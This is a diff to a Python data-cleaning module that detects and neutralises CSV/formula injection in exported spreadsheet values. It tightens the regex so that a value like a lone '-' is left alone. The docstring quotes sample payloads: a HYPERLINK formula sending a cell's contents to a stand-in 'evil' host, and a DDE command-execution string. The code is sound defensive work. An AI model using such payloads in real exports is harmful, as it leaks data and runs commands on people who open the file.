@@ -5,7 +5,7 @@ A CRM value such as `=HYPERLINK("http://evil/?"&A1,"click")`, `+cmd|' /C calc'!A
 as someone opens an export holding it (OWASP "CSV injection"). Cells starting with `=`, `+`, `-`,
 `@`, a tab or a carriage return are formulas to a spreadsheet. A number is not a risk and must
 stay a number: a phone `+44 20 7946 0000` or an amount `-12.50` (digits, spaces and `().-/`
-only) is left alone.
+only) is left alone, and so is a value of those characters alone (`-`, a common "none").
 
 - `formula_like`: which values would run, for flagging them in staging (`formula_columns`);
 - `spreadsheet_safe`: a frame fit for a CSV or Excel file, every formula-like text value
@@ -23,7 +23,7 @@ import pyarrow.compute as pc
 from hygiene_pipeline.domain.column_ops import arrow_flags, arrow_strings
 
 FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")
-_STARTS_LIKE_FORMULA = r"^[=+\-@\t\r]"
+_STARTS_LIKE_FORMULA = r"^[=+\-@\t\r][=+\-@\s]*[^=+\-@\s]"
 _NUMBER_SHAPED = r"^[+\-]?[\d\s().\-/]*\d[\d\s().\-/]*$"
 NEUTRALISING_PREFIX = "'"
 
